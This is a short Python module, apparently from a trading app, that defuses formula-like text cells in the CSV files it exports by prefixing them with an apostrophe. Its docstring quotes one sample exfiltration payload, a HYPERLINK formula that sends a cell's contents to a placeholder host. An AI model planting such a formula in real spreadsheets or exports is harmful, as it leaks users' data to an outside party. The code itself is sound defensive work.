"""Files a trader downloads and opens in a spreadsheet.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (`=HYPERLINK("http://x/?"&A1,"click")` in a strategy
name leaks the sheet). Every CSV the app writes goes through `safe_csv`, which prefixes such cells
with `'` (the OWASP rule); numbers are written as numbers, negative ones included.
"""

from __future__ import annotations

import csv

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(value: object) -> object:
    """A text cell a spreadsheet would run as a formula, prefixed with ' so it shows as text; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_csv(frame: pd.DataFrame, **to_csv) -> str:
    """The frame as CSV text with every formula-like text cell (and header) defused."""
    safe = frame.rename(columns=defuse)
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(defuse)
    # Every text cell quoted: a lone carriage return inside one would otherwise end the row.
    return safe.to_csv(**{"index": False, "quoting": csv.QUOTE_NONNUMERIC, **to_csv})
